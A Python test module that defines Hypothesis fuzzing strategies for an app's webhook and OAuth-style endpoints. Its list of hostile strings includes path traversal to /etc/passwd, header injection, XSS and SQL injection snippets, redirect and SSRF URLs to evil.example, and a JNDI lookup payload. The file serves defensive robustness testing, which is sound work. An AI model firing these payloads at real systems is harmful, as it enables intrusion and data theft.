"""Hypothesis strategies for malformed and hostile input to the app's public endpoints."""

from __future__ import annotations

import json
import uuid

from hypothesis import strategies as st

HOSTILE_STRINGS = [
    "", " ", "null", "undefined", "0", "-1", "1e309", "NaN", "true", "[]", "{}",
    "../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "%00", "\x00", "\r\nSet-Cookie: a=b", "\u202e\u0000",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1", "PartitionKey eq 'connection'",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example", "http://evil.example/",
    "https://product.example.evil.example/", "http://localhost.evil.example/", "http://127.0.0.1:1@evil.example/",
    "http://127.0.0.1:1\\@evil.example/", "https:/\\evil.example", "http://[::1]:80/", "file:///etc/passwd",
    "x" * 5000, "é" * 300, "😀" * 100, "${jndi:ldap://evil.example/a}", "{{7*7}}",
]

hostile_text = st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=300))
# Header values must be latin-1 encodable and free of line breaks (the client refuses others).
header_text = st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="\x7f"), max_size=200).map(
    lambda value: value.strip(" \t").encode("latin-1"))

query_params = st.dictionaries(
    st.one_of(st.sampled_from(["code", "state", "error", "error_description", "return_to", "ref", "validationToken",
                               "session_state", "scope", "admin_consent", "prompt", "login_hint"]), st.text(min_size=1, max_size=20)),
    hostile_text, max_size=5,
)

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | hostile_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(hostile_text, children, max_size=4),
    max_leaves=20,
)


def _notification(kind: str):
    field = st.one_of(hostile_text, json_values, st.uuids().map(str))
    entry = st.fixed_dictionaries(
        {},
        optional={
            "subscriptionId": field, "clientState": field, "changeType": field, "resource": field,
            "tenantId": field, "subscriptionExpirationDateTime": field, "resourceData": json_values,
            **({"lifecycleEvent": st.one_of(st.sampled_from(["subscriptionRemoved", "missed", "reauthorizationRequired"]), field)}
               if kind == "lifecycle" else {}),
        },
    )
    return st.one_of(
        st.fixed_dictionaries({"value": st.lists(entry, max_size=5)}),
        st.fixed_dictionaries({"value": json_values}),
        st.lists(entry, max_size=3),
    )


def notification_bodies(kind: str = "notification"):
    """Bytes for POST notifications/lifecycle: garbage, any JSON, and notification-shaped JSON with hostile fields."""
    return st.one_of(
        st.binary(max_size=2000),
        json_values.map(lambda value: json.dumps(value).encode()),
        _notification(kind).map(lambda value: json.dumps(value).encode()),
        st.just(b'{"value": [' + b'{"subscriptionId": "' + str(uuid.uuid4()).encode() + b'"},' * 2000 + b'{}]}'),
    )


content_types = st.sampled_from(["application/json", "text/plain", "application/x-www-form-urlencoded",
                                 "multipart/form-data; boundary=x", "application/json; charset=utf-16", ""])
